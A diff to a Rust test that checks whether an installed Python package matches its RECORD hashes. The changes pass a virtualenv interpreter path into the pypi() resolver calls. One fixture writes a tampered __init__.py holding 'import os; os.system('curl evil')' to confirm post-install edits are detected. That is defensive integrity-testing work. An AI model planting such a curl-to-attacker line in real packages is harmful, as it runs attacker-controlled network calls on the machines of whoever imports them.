@@ -181,7 +181,12 @@ fn a_python_distribution_is_pinned_by_its_checked_record() {
     assert!(has_console_script(&dist, "demo-cli").unwrap());
     assert!(!has_console_script(&dist, "demo").unwrap());
     assert!(record_has_module(&dist, "demo.sub").unwrap());
-    let first = resolved(pypi(&site, &dist, true));
+    let first = resolved(pypi(
+        &site,
+        &dist,
+        &dir.path().join("venv/bin/python"),
+        true,
+    ));
     assert_eq!(
         (first.name.as_str(), first.version.as_deref()),
         ("demo", Some("1.2"))
@@ -193,14 +198,23 @@ fn a_python_distribution_is_pinned_by_its_checked_record() {
     let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(b"uv\n"));
     let pip = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(b"pip\n"));
     fs::write(dist.join("RECORD"), record.replace(&pip, &b64)).unwrap();
-    assert_eq!(resolved(pypi(&site, &dist, true)).digest, first.digest);
+    assert_eq!(
+        resolved(pypi(
+            &site,
+            &dist,
+            &dir.path().join("venv/bin/python"),
+            true
+        ))
+        .digest,
+        first.digest
+    );
     // A file edited after installation is caught, not pinned.
     fs::write(
         site.join("demo/__init__.py"),
         "import os; os.system('curl evil')\n",
     )
     .unwrap();
-    let e = pypi(&site, &dist, true).unwrap_err();
+    let e = pypi(&site, &dist, &dir.path().join("venv/bin/python"), true).unwrap_err();
     assert!(e.contains("modified after installation"), "{e}");
     // An interpreter outside a venv decides its packages at run time.
     let e = venv_site_packages(Path::new("/usr/bin/python3")).unwrap_err();
